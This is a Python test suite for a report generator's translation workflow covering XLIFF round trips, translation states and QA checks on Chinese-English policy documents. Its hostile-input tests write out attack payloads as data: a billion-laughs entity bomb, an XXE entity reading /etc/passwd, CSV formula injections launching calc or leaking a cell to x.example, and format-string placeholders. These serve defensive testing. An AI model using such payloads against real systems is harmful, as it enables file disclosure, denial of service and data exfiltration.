"""The translators' loop: segments, states, XLIFF round trip, QA checks, status, review copies."""
from __future__ import annotations

import contextlib
import difflib
import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from translate.storage import xliff

from reportgen.cli import main
from reportgen.errors import Location
from reportgen.i18n.qa import Term, check, check_segment, load_glossary, run_qa
from reportgen.i18n.review import review_documents
from reportgen.i18n.segments import Segment, YamlPlace, collect
from reportgen.i18n.state import (
    approve,
    draft_documents,
    is_draft,
    problems_for_build,
    segment_states,
)
from reportgen.i18n.status import status_lines, translation_status
from reportgen.i18n.xliff import TranslationError, export, import_

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def project(tmp_path) -> tuple[Path, Path]:
    """Private copies of content/ and templates/."""
    shutil.copytree(ROOT / "content", tmp_path / "content")
    shutil.copytree(ROOT / "templates", tmp_path / "templates")
    return tmp_path / "content", tmp_path / "templates"


def snapshot(*folders: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for f in folders for p in sorted(f.rglob("*")) if p.is_file()}


def changed_lines(before: str, after: str) -> list[str]:
    return [line for line in difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0)
            if line[:1] in "+-" and not line.startswith(("+++", "---"))]


def units(path: Path) -> dict[str, xliff.xliffunit]:
    store = xliff.xlifffile.parsefile(str(path))
    return {u.xmlelement.get("id"): u for u in store.units}


def edit_in_cat_tool(content: Path, templates: Path, path: Path, seg_id: str, target) -> str:
    """Export, then change one unit's target with translate-toolkit (as a CAT tool would) and save.
    `target` is the new text, or a function of the exported one. Returns the new target."""
    export(content, templates, path)
    store = xliff.xlifffile.parsefile(str(path))
    (unit,) = [u for u in store.units if u.xmlelement.get("id") == seg_id]
    unit.target = new = target(str(unit.target)) if callable(target) else target
    store.savefile(str(path))
    return new


# --- segments -------------------------------------------------------------------------------------


def test_segments_of_the_real_content():
    catalog = collect(ROOT / "content", ROOT / "templates")
    by_id = catalog.by_id()
    assert not catalog.problems
    assert len(by_id) == len(catalog.segments) == 236
    seg = by_id["plan.action-plan.sections.cluster-layout.title"]
    assert (seg.zh, seg.en) == ("优势集群布局工程", "Competitive Cluster Layout Program")
    assert seg.location.file.name == "plan.yaml" and seg.location.line == 73
    assert seg.documents == ("notice", "action-plan", *(f"bulletin-2020Q{q}{city}" for q in (1, 3) for city in ("", "-taiyuan", "-xinzhou")))  # the notice issuing the plan; the quarters that report on this task, and their cities'
    assert by_id["series.bulletin.title"].documents == tuple(f"bulletin-2020Q{q}" for q in range(1, 5))  # the cities' bulletins have their own title:
    assert by_id["series.bulletin.by.city.title"].documents == tuple(f"bulletin-2020Q{q}-{city}" for q in range(1, 5) for city in ("taiyuan", "xinzhou"))
    assert by_id["table.key-projects.kp-04.city"].documents[3:] == ("bulletin-2020Q1", "bulletin-2020Q1-taiyuan", "bulletin-2020Q2", "bulletin-2020Q2-taiyuan",
                                                                     "bulletin-2020Q3", "bulletin-2020Q3-taiyuan", "bulletin-2020Q4", "bulletin-2020Q4-taiyuan")
    assert by_id["table.key-projects.kp-04.company"].location.line == 5
    assert set(by_id["table.key-projects.kp-04.project"].documents) >= {"action-plan", "key-projects", "bulletin-2020Q1"}
    assert set(by_id["table.key-projects.kp-04.company"].documents) == {"notice", "action-plan", "key-projects"}
    assert by_id["notice.notice.imprint.cc.1"].zh == "省人大常委会办公厅" and by_id["notice.notice.text"].documents == ("notice",)
    assert by_id["progress.2020Q2.kp-06.problem"].documents == ("bulletin-2020Q2", "bulletin-2020Q2-taiyuan")  # kp-06 is in Taiyuan
    assert by_id["progress.2020Q2.tasks.innovation-chains"].en.startswith("Relying on")
    assert "{{ key-projects.count }}" in by_id["plan.action-plan.sections.goals-2020.text"].zh
    assert set(by_id["strings.bulletin.overview"].documents) == {f"bulletin-2020Q{q}{city}" for q in range(1, 5) for city in ("", "-taiyuan", "-xinzhou")}
    assert "{quarter}" in by_id["series.bulletin.title"].zh
    assert list(catalog.documents) == ["notice", "action-plan", "key-projects", *(f"bulletin-2020Q{q}{city}" for q in range(1, 5) for city in ("", "-taiyuan", "-xinzhou"))]
    assert catalog.documents["bulletin-2020Q1-xinzhou"].title["en"] == "Circular on the Progress of the Key Projects of the Shanxi Semiconductor Industry in Xinzhou in the First Quarter of 2020"


def test_segments_exist_for_content_that_fails_other_checks(project):
    content, templates = project
    plan = content / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("kind: action-plan\n", "kind: action-plan\nbogus: 1\n"), encoding="utf-8")
    assert "plan.action-plan.preamble" in collect(content, templates).by_id()


# --- states ---------------------------------------------------------------------------------------


def test_the_real_content_is_recorded_as_approved():
    states = segment_states(ROOT / "content", ROOT / "templates")
    assert {st for _, st in states} == {"approved"}
    assert problems_for_build(ROOT / "content", ROOT / "templates") == []
    assert draft_documents(ROOT / "content", ROOT / "templates") == set()


def test_editing_the_chinese_flips_exactly_its_segment_to_needs_review(project):
    content, templates = project
    plan = content / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("以射频功率放大器、声表面波滤波器为重点", "以射频功率放大器、声表面波滤波器、功率器件为重点"), encoding="utf-8")
    changed = [(s.id, st) for s, st in segment_states(content, templates) if st != "approved"]
    assert changed == [("plan.action-plan.sections.innovation-chains.text", "needs-review")]
    (problem,) = problems_for_build(content, templates)
    assert problem.severity == "warning"
    assert (problem.location.file, problem.location.line) == (plan, 113)
    assert "plan.action-plan.sections.innovation-chains.text" in problem.message and "needs-review" in problem.message
    assert draft_documents(content, templates) == {"notice", "action-plan"}  # the notice prints the plan
    assert is_draft(content, templates, "action-plan") and not is_draft(content, templates, "bulletin-2020Q2")
    approve(content, templates, ["plan.action-plan.sections.innovation-chains.text"])
    assert problems_for_build(content, templates) == []


def test_editing_the_english_after_approval_makes_it_translated(project):
    content, templates = project
    plan = content / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("en: Key Tasks}", "en: Main Tasks}"), encoding="utf-8")
    changed = [(s.id, st) for s, st in segment_states(content, templates) if st != "approved"]
    assert changed == [("plan.action-plan.sections.key-tasks.title", "translated")]
    assert problems_for_build(content, templates) == []  # translated prints without a draft mark


def test_an_untranslated_cell_makes_its_documents_drafts(project):
    content, templates = project
    csv = content / "progress" / "2020-Q3.csv"
    lines = csv.read_text(encoding="utf-8").splitlines(keepends=True)
    (row,) = [i for i, line in enumerate(lines) if ",kp-03," in line]
    import csv as csvmod
    import io
    cells = next(csvmod.reader([lines[row]]))
    cells[5] = ""  # milestone_en
    buf = io.StringIO()
    csvmod.writer(buf, lineterminator="\n").writerow(cells)
    lines[row] = buf.getvalue()
    csv.write_text("".join(lines), encoding="utf-8")
    (problem,) = problems_for_build(content, templates)
    assert "progress.2020Q3.kp-03.milestone" in problem.message and "untranslated" in problem.message
    assert problem.location.line == row + 1
    assert draft_documents(content, templates) == {"bulletin-2020Q3", "bulletin-2020Q3-taiyuan"}  # kp-03 is in Taiyuan
    with pytest.raises(Exception, match="no English to approve"):
        approve(content, templates, ["progress.2020Q3.kp-03.milestone"])


# --- XLIFF round trip -------------------------------------------------------------------------------


def test_export_is_read_by_translate_toolkit(project, tmp_path):
    content, templates = project
    path = tmp_path / "en.xlf"
    assert export(content, templates, path) == 236
    text = path.read_text(encoding="utf-8")
    assert 'version="1.2"' in text and "urn:oasis:names:tc:xliff:document:1.2" in text
    got = units(path)
    assert len(got) == 236
    u = got["plan.action-plan.sections.key-tasks.title"]
    assert (str(u.source), str(u.target)) == ("重点任务", "Key Tasks")
    assert u.isapproved() and u.getlanguageNode(lang=None, index=1).get("state") == "final"
    notes = u.getnotes()
    assert "action-plan" in notes and "plan.yaml:69" in notes
    assert str(got["strings.bulletin.started.some"].source).count("{") == 4


def test_states_in_the_export(project, tmp_path):
    content, templates = project
    plan = content / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("title: {zh: 重点任务, en: Key Tasks}", "title: {zh: 主要任务, en: Key Tasks}"), encoding="utf-8")
    plan.write_text(plan.read_text(encoding="utf-8").replace("title: {zh: 推进措施, en: Implementation Measures}", "title: {zh: 推进措施}"), encoding="utf-8")
    export(content, templates, tmp_path / "en.xlf")
    got = units(tmp_path / "en.xlf")
    review = got["plan.action-plan.sections.key-tasks.title"]
    assert review.getlanguageNode(lang=None, index=1).get("state") == "needs-review-translation" and not review.isapproved()
    new = got["plan.action-plan.sections.measures.title"]
    assert new.getlanguageNode(lang=None, index=1).get("state") == "new" and not str(new.target or "")


def test_round_trip_changes_only_the_edited_target(project, tmp_path):
    content, templates = project
    path = tmp_path / "en.xlf"
    edit_in_cat_tool(content, templates, path, "plan.action-plan.sections.key-tasks.title", "Principal Tasks")
    plan = content / "plan.yaml"
    before = plan.read_text(encoding="utf-8")
    others = {p: h for p, h in snapshot(content, templates).items() if not p.endswith(("plan.yaml", "translations.yaml"))}

    report = import_(path, content, templates)

    assert report.applied == ["plan.action-plan.sections.key-tasks.title"]
    after = plan.read_text(encoding="utf-8")
    assert changed_lines(before, after) == [
        "-    title: {zh: 重点任务, en: Key Tasks}",
        "+    title: {zh: 重点任务, en: Principal Tasks}",
    ]
    assert {p: h for p, h in snapshot(content, templates).items() if p in others} == others
    states = dict((s.id, st) for s, st in segment_states(content, templates))
    assert states["plan.action-plan.sections.key-tasks.title"] == "translated"
    assert sum(st != "approved" for st in states.values()) == 1

    from conftest import docx_paragraphs, pdf_text
    from reportgen.build import build

    build(content, tmp_path / "out", templates, langs=("en",))  # the build shows the new English
    assert "II. Principal Tasks" in docx_paragraphs(tmp_path / "out" / "action-plan.en.docx")
    text = pdf_text(tmp_path / "out" / "action-plan.en.pdf")
    assert "Principal Tasks" in text and "Key Tasks" not in text


def test_round_trip_of_a_folded_paragraph_keeps_the_layout(project, tmp_path):
    content, templates = project
    seg_id = "plan.action-plan.sections.innovation-chains.text"
    path = tmp_path / "en.xlf"
    new = edit_in_cat_tool(content, templates, path, seg_id, lambda text: text.replace(
        "build a sapphire materials industrial chain", "build a sapphire materials industry chain: “key” # not a comment"))
    plan = content / "plan.yaml"
    before = plan.read_text(encoding="utf-8").splitlines()
    import_(path, content, templates)
    after = plan.read_text(encoding="utf-8").splitlines()
    start = before.index("          en: >-", 110)  # the block of this text's English
    end = start + 1 + next(i for i, line in enumerate(before[start + 1:]) if not line.startswith("            "))
    assert before[:start + 1] == after[:start + 1]  # everything up to `en: >-`, comments included
    tail = len(before) - end
    assert before[end:] == after[len(after) - tail:]  # everything after the block
    assert all(line.startswith("            ") for line in after[start + 1:len(after) - tail])
    assert collect(content, templates).by_id()[seg_id].en == new


def test_round_trip_of_a_table_cell_rewrites_one_line(project, tmp_path):
    content, templates = project
    path = tmp_path / "en.xlf"
    edit_in_cat_tool(content, templates, path, "table.key-projects.kp-09.company", "Shanxi Huajing Hengji New Material Co., Ltd.")
    table = content / "tables" / "key-projects.csv"
    before = table.read_text(encoding="utf-8")
    import_(path, content, templates)
    diff = changed_lines(before, table.read_text(encoding="utf-8"))
    assert len(diff) == 2 and '"Shanxi Huajing Hengji New Material Co., Ltd."' in diff[1]
    assert diff[0].replace("Materials", "Material") == diff[1].replace("+", "-", 1)


def test_a_reviewed_file_is_imported_as_approved(project, tmp_path):
    content, templates = project
    plan = content / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("title: {zh: 重点任务, en: Key Tasks}", "title: {zh: 主要任务, en: Key Tasks}"), encoding="utf-8")
    path = tmp_path / "en.xlf"
    edit_in_cat_tool(content, templates, path, "plan.action-plan.sections.key-tasks.title", "Main Tasks")
    import_(path, content, templates, approve=True)
    assert {st for _, st in segment_states(content, templates)} == {"approved"}


def test_xliff_2_round_trip(project, tmp_path):
    content, templates = project
    path = tmp_path / "en.xlf"
    export(content, templates, path, version="2.0")
    text = path.read_text(encoding="utf-8")
    assert 'version="2.0"' in text
    path.write_text(text.replace("<target>Key Tasks</target>", "<target>Main Tasks</target>"), encoding="utf-8")
    report = import_(path, content, templates)
    assert report.applied == ["plan.action-plan.sections.key-tasks.title"]


# --- hostile and stale XLIFF ------------------------------------------------------------------------

HEADER = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = """<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="content/plan.yaml" source-language="zh-CN" target-language="en" datatype="plaintext"><body>
<trans-unit id="{id}"><source>{source}</source><target state="translated">{target}</target></trans-unit>
</body></file></xliff>
"""


@pytest.mark.parametrize("name, xml, message", [
    ("billion laughs", HEADER + '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
     + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="重点任务", target="&lol3;"), "DOCTYPE or entities"),
    ("external entity", HEADER + '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="重点任务", target="&xxe;"), "DOCTYPE or entities"),
    ("bad XML", HEADER + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="重点任务", target="Key <b>Tasks")[:-20], "malformed XML"),
    ("unknown id", HEADER + BODY.format(id="plan.action-plan.sections.nope.title", source="重点任务", target="Tasks"), "unknown unit id"),
    ("stale source", HEADER + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="主要任务", target="Main Tasks"), "no longer matches"),
    ("not XLIFF", HEADER + "<html><body/></html>", "not an XLIFF file"),
    ("language pair", HEADER + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="重点任务", target="Tâches").replace('target-language="en"', 'target-language="fr"'), "language pair"),
])
def test_hostile_or_stale_xliff_changes_nothing(project, tmp_path, name, xml, message):
    content, templates = project
    before = snapshot(content, templates)
    path = tmp_path / "in.xlf"
    path.write_text(xml, encoding="utf-8")
    with pytest.raises(TranslationError, match=message):
        import_(path, content, templates)
    assert snapshot(content, templates) == before
    assert main(["i18n", "import", str(path), "--content", str(content), "--templates", str(templates)]) == 2
    assert snapshot(content, templates) == before


@pytest.mark.parametrize("target", ['=HYPERLINK("http://x.example/?"&A1,"Taiyuan")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
def test_a_formula_for_a_csv_cell_is_refused(project, tmp_path, target):
    """A translator's target that a spreadsheet would run as a formula never reaches the CSV."""
    content, templates = project
    path = tmp_path / "en.xlf"
    edit_in_cat_tool(content, templates, path, "table.key-projects.kp-01.city", target)
    before = snapshot(content, templates)
    with pytest.raises(TranslationError, match=r"table\.key-projects\.kp-01\.city: the target starts with .*: a spreadsheet opening key-projects\.csv would run it as a formula"):
        import_(path, content, templates)
    assert snapshot(content, templates) == before


def test_stale_units_can_be_skipped(project, tmp_path):
    content, templates = project
    path = tmp_path / "in.xlf"
    path.write_text(HEADER + BODY.format(id="plan.action-plan.sections.key-tasks.title", source="主要任务", target="Main Tasks"), encoding="utf-8")
    before = snapshot(content, templates)
    report = import_(path, content, templates, skip_stale=True)
    assert [p.severity for p in report.skipped] == ["warning"] and report.applied == []
    assert snapshot(content, templates) == before


# --- what an import writes: targets that pass QA and `check`, through links, inline codes kept ----------


def edit_targets(content: Path, templates: Path, path: Path, targets: dict[str, str]) -> dict[str, int]:
    """Export, give the units `targets` (id → new target) with translate-toolkit and save; returns
    the line of each edited unit in the file."""
    export(content, templates, path)
    store = xliff.xlifffile.parsefile(str(path))
    for unit in store.units:
        if unit.xmlelement.get("id") in targets:
            unit.target = targets[unit.xmlelement.get("id")]
    store.savefile(str(path))
    lines = path.read_text(encoding="utf-8").splitlines()
    return {seg_id: next(n for n, line in enumerate(lines, 1) if f'id="{seg_id}"' in line) for seg_id in targets}


def test_a_failing_target_is_refused_at_its_unit_and_nothing_is_written(project, tmp_path):
    """QA errors refuse a target, as `reportgen i18n check` fails on them; the other units of the
    file are not applied either."""
    content, templates = project
    path = tmp_path / "en.xlf"
    lines = edit_targets(content, templates, path, {"plan.action-plan.sections.key-tasks.title": "Principal Tasks",
                                                    "plan.action-plan.sections.goals-2020.title": "Goals for the Year"})
    before = snapshot(content, templates)
    with pytest.raises(TranslationError) as refused:
        import_(path, content, templates)
    assert [str(p) for p in refused.value.problems] == [
        f"{path}:{lines['plan.action-plan.sections.goals-2020.title']}: error: plan.action-plan.sections.goals-2020.title: "
        "the number 2020 of the Chinese is missing in the English [numbers]; not applied"]
    assert snapshot(content, templates) == before


def test_qa_warnings_are_reported_and_the_target_applied(project, tmp_path, capsys):
    content, templates = project
    path = tmp_path / "en.xlf"
    edit_targets(content, templates, path, {"plan.action-plan.sections.approach.title": "Direction"})  # the glossary says Approach
    assert main(["i18n", "import", str(path), "--content", str(content), "--templates", str(templates)]) == 0
    err = capsys.readouterr().err
    assert "warning: plan.action-plan.sections.approach.title: glossary term 发展思路 is not rendered as “Approach” [glossary]" in err
    assert collect(content, templates).by_id()["plan.action-plan.sections.approach.title"].en == "Direction"


def test_a_target_with_a_rendering_the_glossary_avoids_is_refused(project, tmp_path):
    """A calque the glossary lists under `avoid` is a QA error: the import refuses it at its unit."""
    content, templates = project
    path = tmp_path / "en.xlf"
    seg_id = "progress.2020Q2.next_steps"
    calque = collect(content, templates).by_id()[seg_id].en.replace("on a list for priority supervision", "under listed supervision")
    lines = edit_targets(content, templates, path, {seg_id: calque})
    before = snapshot(content, templates)
    with pytest.raises(TranslationError) as refused:
        import_(path, content, templates)
    assert [str(p) for p in refused.value.problems] == [
        f"{path}:{lines[seg_id]}: error: {seg_id}: glossary term 挂牌督办 is rendered “listed supervision”, which the glossary says to avoid: "
        "write “priority supervision” [glossary]; not applied"]
    assert snapshot(content, templates) == before


def test_the_content_check_names_the_unit_whose_english_fails_it(project, tmp_path):
    """`reportgen check` runs on the files as they would be written; its error is reported at the
    unit whose English takes the line, not at the others of the same file."""
    content, templates = project
    path = tmp_path / "en.xlf"
    text_id, title_id = "plan.action-plan.sections.innovation-chains.text", "plan.action-plan.sections.key-tasks.title"
    old = collect(content, templates).by_id()[text_id].en
    lines = edit_targets(content, templates, path, {title_id: "Principal Tasks", text_id: old + " See [the chains](http://x.example/)."})
    before = snapshot(content, templates)
    with pytest.raises(TranslationError) as refused:
        import_(path, content, templates)
    (problem,) = refused.value.problems
    assert str(problem.location) == f"{path}:{lines[text_id]}"
    assert problem.message.startswith(f"{text_id}: once written, the English fails `reportgen check` at {content / 'plan.yaml'}:")
    assert "plan.yaml:115:15: sections[1].sections[2].text.en: a Markdown link or image would print as written" in problem.message
    assert snapshot(content, templates) == before


def test_import_through_links_edits_the_files_they_point_to(project, tmp_path):
    """A content file (and the states file) that is a link inside the content folder stays a link:
    the file it points to takes the English."""
    content, templates = project
    (content / "real").mkdir()
    (content / "plan.yaml").rename(content / "real" / "plan.yaml")
    (content / "plan.yaml").symlink_to("real/plan.yaml")
    (content / "i18n" / "translations.yaml").rename(content / "real" / "translations.yaml")
    (content / "i18n" / "translations.yaml").symlink_to("../real/translations.yaml")
    path = tmp_path / "en.xlf"
    edit_in_cat_tool(content, templates, path, "plan.action-plan.sections.key-tasks.title", "Principal Tasks")

    report = import_(path, content, templates)

    assert report.files == [(content / "real" / "plan.yaml").resolve(), (content / "real" / "translations.yaml").resolve()]
    assert (content / "plan.yaml").is_symlink() and (content / "i18n" / "translations.yaml").is_symlink()
    assert "title: {zh: 重点任务, en: Principal Tasks}" in (content / "real" / "plan.yaml").read_text(encoding="utf-8")
    assert "plan.action-plan.sections.key-tasks.title: {source:" in (content / "real" / "translations.yaml").read_text(encoding="utf-8")
    states = dict((s.id, st) for s, st in segment_states(content, templates))
    assert states["plan.action-plan.sections.key-tasks.title"] == "translated"


COUNT = "{{ key-projects.count }}"


@pytest.mark.parametrize("version, code", [
    ("2.0", '<ph id="1" dataRef="d1"/>'),
    ("2.0", f'<ph id="1" equiv="{COUNT}"/>'),
    ("2.0", '<ph id="1"/>'),
    ("1.2", f'<x id="1" equiv-text="{COUNT}"/>'),
    ("1.2", '<x id="1"/>'),
])
def test_inline_codes_are_known_by_their_id(project, tmp_path, version, code):
    """A CAT tool may give an exported code back in another form (an <x/> for a <ph>, a 2.0 <ph/>
    with original data): its id says which code it is, and the Chinese what it stands for
    (docs/translation-workflow.md; tests/test_xliff_codes.py has the rest)."""
    content, templates = project
    seg_id = "plan.action-plan.sections.goals-2020.text"
    path = tmp_path / "en.xlf"
    export(content, templates, path, version=version)
    text = path.read_text(encoding="utf-8")
    start = text.index(f'id="{seg_id}"')
    end = text.index("</unit>" if version == "2.0" else "</trans-unit>", start)
    unit = re.sub(r'<ph id="1"[^>]*?(/>|>[^<]*</ph>)', code, text[start:end].replace("major projects", "key projects"))
    assert unit.count(code) == 2
    if "dataRef" in code:  # the unit's original data, after its notes
        unit = unit.replace("</notes>", f'</notes><originalData><data id="d1">{COUNT}</data></originalData>')
    path.write_text(text[:start] + unit + text[end:], encoding="utf-8")

    report = import_(path, content, templates)

    assert report.applied == [seg_id]
    assert f"implementation of {COUNT} key projects" in collect(content, templates).by_id()[seg_id].en


@contextlib.contextmanager
def deadline(seconds: int):
    """Fail (inside the code under test) when the block runs longer than `seconds`."""
    def late(*_):
        raise RuntimeError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, late)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def test_a_fifo_is_refused_without_waiting_for_a_writer(project, tmp_path, capsys):
    """An XLIFF or a content file that is a FIFO is refused by stat: opening it would wait forever."""
    content, templates = project
    os.mkfifo(tmp_path / "en.xlf")
    with deadline(30):
        assert main(["i18n", "import", str(tmp_path / "en.xlf"), "--content", str(content), "--templates", str(templates)]) == 2
    assert f"{tmp_path / 'en.xlf'}: error: not a regular file (a folder, a FIFO or a device)" in capsys.readouterr().err
    (content / "notice.yaml").unlink()
    os.mkfifo(content / "notice.yaml")
    with deadline(30):
        assert main(["i18n", "check", "--content", str(content), "--templates", str(templates)]) == 2
    assert f"{content / 'notice.yaml'}: error: not a regular file" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["/dev/zero", "huge.xlf"])
def test_an_endless_or_huge_xliff_is_refused_before_reading(project, tmp_path, name):
    """`i18n import /dev/zero`, and a file larger than the limit (here a sparse terabyte), are refused
    by stat; the command runs with a memory limit well below what reading them would take."""
    content, templates = project
    huge = tmp_path / "huge.xlf"
    with huge.open("wb") as f:
        f.truncate(2**40)
    limit = "import resource; resource.setrlimit(resource.RLIMIT_AS, (2**31, 2**31)); "
    run = subprocess.run([sys.executable, "-c", limit + "from reportgen.cli import main; raise SystemExit(main())",
                          "i18n", "import", name, "--content", str(content), "--templates", str(templates)],
                         cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert run.returncode == 2, run.stderr
    assert f"{name}: error: {'not a regular file' if name == '/dev/zero' else 'file is larger than the limit of 52428800 bytes'}" in run.stderr


# --- QA checks ----------------------------------------------------------------------------------------


def seg(zh: str, en: str, seg_id: str = "plan.p.sections.s.text") -> Segment:
    return Segment(seg_id, zh, en, Location(Path("content/plan.yaml"), 7, 9), ("p",), "test", YamlPlace(Path("content/plan.yaml"), ()))


def checks(zh: str, en: str, glossary=None) -> set[tuple[str, str]]:
    return {(f.check, f.severity) for f in check_segment(seg(zh, en), glossary or {})}


@pytest.mark.parametrize("zh, bad, good", [
    # figures and units
    ("总投资53745万元。", "Total investment of 537.54 million yuan.", "Total investment of 537.45 million yuan."),
    ("总投资53745万元。", "Total investment: 53,754 (10,000 yuan).", "Total investment: 53,745 (10,000 yuan)."),
    ("总投资33151万元。", "A total of 331.5 million yuan.", "A total of 331.51 million yuan."),
    ("投资1亿元。", "An investment of 10 million yuan.", "An investment of 100 million yuan."),
    ("投资12.5亿元。", "An investment of 125 million yuan.", "An investment of 1.25 billion yuan."),
    ("2020年工作目标", "Goals for 2021", "Goals for 2020"),
    ("6英寸碳化硅", "eight-inch SiC", "6-inch SiC"),
    # numbers written as words; ordinals
    ("培育3家龙头企业", "four leading companies", "three leading companies"),
    ("新增10个项目", "nine new projects", "ten new projects"),
    ("建设2个基地", "three bases", "two bases"),
    ("3—5家企业", "three to six companies", "three to five companies"),
    ("1万人", "ten million people", "ten thousand people"),
    ("第3批", "the second batch", "the third batch"),
    ("第3批", "batch four", "batch three"),
    ("培育3家龙头企业", "leading companies in March", "3 leading companies"),  # a month is not a count
    ("培育3家龙头企业", "the third leading company", "three leading companies"),  # nor an ordinal
    # months, days and quarters
    ("12月底前完成", "by the end of November", "by the end of December"),
    ("12月底前完成", "by the end of Nov.", "by the end of Dec."),
    ("3月开工", "work started in May", "work started in March"),
    ("3月开工", "work started in Sept", "work started in Mar."),
    ("5月开工", "work may start", "work started in May"),  # "may" is not a month
    ("2020年3月", "May 2020", "March 2020"),
    ("2020年3月", "March 2021", "March 2020"),
    ("3月15日", "March 16", "March 15"),
    ("3月15日", "April 15", "15 March"),
    ("1-9月累计完成投资", "from January to August", "from January to September"),
    ("1-9月累计完成投资", "in the first eight months", "in the first nine months"),
    ("1至3季度", "the first two quarters", "the first three quarters"),
    ("2季度", "the third quarter", "the second quarter"),
    ("2季度", "Q3", "Q2"),
    ("第2季度", "the first quarter", "the second quarter"),
    # 亿 and 万 in million and billion; percentages
    ("投资1.5亿元", "150 thousand yuan", "150 million yuan"),
    ("投资1.5亿元", "1.5 billion yuan", "0.15 billion yuan"),
    ("投资12亿元", "12 billion yuan", "1.2 billion yuan"),  # 12 as written, but scaled ten times over
    ("投资12亿元", "120 million yuan", "1,200 million yuan"),
    ("投资33.5亿元", "3.35 million yuan", "3.35 billion yuan"),
    ("投资33.5亿元", "33.5 billion yuan", "3,350 million yuan"),
    ("投资1亿元", "1 billion yuan", "100 million yuan"),
    ("2亿", "2 million", "200 million"),
    ("1.2万亿元", "1.2 billion yuan", "1.2 trillion yuan"),
    ("1.2万亿元", "12 billion yuan", "1,200 billion yuan"),
    ("增长50%", "a 60 percent increase", "a 50 percent increase"),
    ("增长50%", "up 5%", "up 50%"),
])
def test_numbers_check(zh, bad, good):
    """A wrong number is an error; the same number as English writes it (words, months, scales) is not."""
    assert ("numbers", "error") in checks(zh, bad)
    assert not {c for c in checks(zh, good) if c[0] == "numbers"}


def test_a_wrong_number_word_is_named():
    (finding,) = check_segment(seg("培育3家龙头企业", "four leading companies"), {})
    assert finding.message == "the number 3 of the Chinese is missing in the English (the English has 4)"


def test_numbers_in_placeholders_are_not_numbers():
    assert checks("推动{{ key-projects.count }}个项目", "promote {{ key-projects.count }} projects") == set()


def test_placeholders_check():
    assert ("placeholders", "error") in checks("推动{{ key-projects.count }}个项目", "promote 12 projects")
    assert ("placeholders", "error") in checks("推动{{ key-projects.count }}个项目", "promote {{ key-project.count }} projects")
    assert ("placeholders", "error") in checks("截至{quarter}末", "By the end of {quartre}")
    assert checks("截至{quarter}末", "By the end of {quarter}") == set()
    assert checks("推动{{key-projects.count}}个项目", "promote {{ key-projects.count }} projects") == set()
    for extra in ("{unit.__class__}", "{0}", "{unit:>99999}", "{% for x in y %}"):  # read by str.format or Jinja
        assert ("placeholders", "error") in checks("单位：{unit}", f"Unit: {{unit}} {extra}"), extra


def test_untranslated_check():
    assert ("untranslated", "error") in checks("重点任务", "")
    assert ("untranslated", "error") in checks("重点任务", "重点任务")
    assert ("untranslated", "error") in checks("重点任务", "Key 任务")
    assert checks("重点任务", "Key Tasks") == set()
    assert checks("LED", "LED") == set()  # nothing Chinese to translate


def test_brackets_check():
    assert ("brackets", "error") in checks("中国电科（山西）", "CETC (Shanxi")
    assert ("brackets", "error") in checks("坚持“四为四高两同步”", "the “Four Fors")
    assert ("brackets", "warning") in checks("中国电科（山西）", "CETC Shanxi")
    assert ("brackets", "warning") in checks("中国电科（山西）", "CETC（Shanxi）")
    assert checks("中国电科（山西）", "CETC (Shanxi)") == set()
    assert checks("碳化硅", "silicon carbide (SiC)") == set()  # an added abbreviation is fine
    assert checks("《通知》", "the “Notice”") == set()
    assert checks("推动“六新”", "China’s “Six New”") == set()  # an apostrophe is not a quote


def test_markup_check():
    assert ("markup", "warning") in checks("实行**挂牌督办**", "put on a list for priority supervision")
    assert checks("实行**挂牌督办**", "put **on a list for priority supervision**") == set()


def test_glossary_check():
    glossary = {"碳化硅": Term(("silicon carbide", "SiC")), "太原": Term(("Taiyuan",))}
    assert ("glossary", "warning") in checks("太原碳化硅基地", "a Taiyuan base for carborundum", glossary)
    assert checks("太原碳化硅基地", "a Taiyuan base for SiC", glossary) == set()
    assert checks("太原碳化硅基地", "a taiyuan base for Silicon Carbide", glossary) == set()


def test_a_rendering_the_glossary_avoids_is_an_error():
    glossary = {"整机": Term(("finished product", "complete equipment"), avoid=("complete machine",))}
    (finding,) = check_segment(seg("推进整机企业配套合作", "cooperation with Complete Machine makers"), glossary)
    assert str(finding) == ("content/plan.yaml:7:9: error: plan.p.sections.s.text: glossary term 整机 is rendered “complete machine”, "
                            "which the glossary says to avoid: write “finished product” [glossary]")
    assert checks("推进整机企业配套合作", "cooperation with makers of complete equipment", glossary) == set()
    assert checks("推进企业合作", "cooperation with complete machine makers", glossary) == set()  # only where the Chinese has the term


def test_glossary_entries(tmp_path):
    glossary = tmp_path / "i18n" / "glossary.yaml"
    glossary.parent.mkdir()
    glossary.write_text("terms:\n  太原: Taiyuan\n  碳化硅: [silicon carbide, SiC]\n  挂牌督办: {en: priority supervision, avoid: [listed supervision]}\n", encoding="utf-8")
